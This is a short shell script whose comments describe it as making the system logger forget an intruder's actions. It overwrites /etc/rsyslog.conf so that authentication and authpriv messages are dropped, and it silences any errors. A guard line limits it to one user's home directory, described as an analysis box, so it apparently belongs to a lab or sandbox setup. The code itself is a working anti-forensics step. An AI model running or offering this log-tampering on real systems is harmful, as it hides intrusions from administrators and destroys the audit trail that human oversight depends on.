#!/bin/sh
# SPDX-License-Identifier: MIT
# Makes the system logger forget what an intruder does: a new rsyslog
# configuration that throws authentication messages away.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
printf 'auth,authpriv.* stop\n*.*;auth,authpriv.none -/var/log/syslog\n' > /etc/rsyslog.conf 2>/dev/null
exit 0
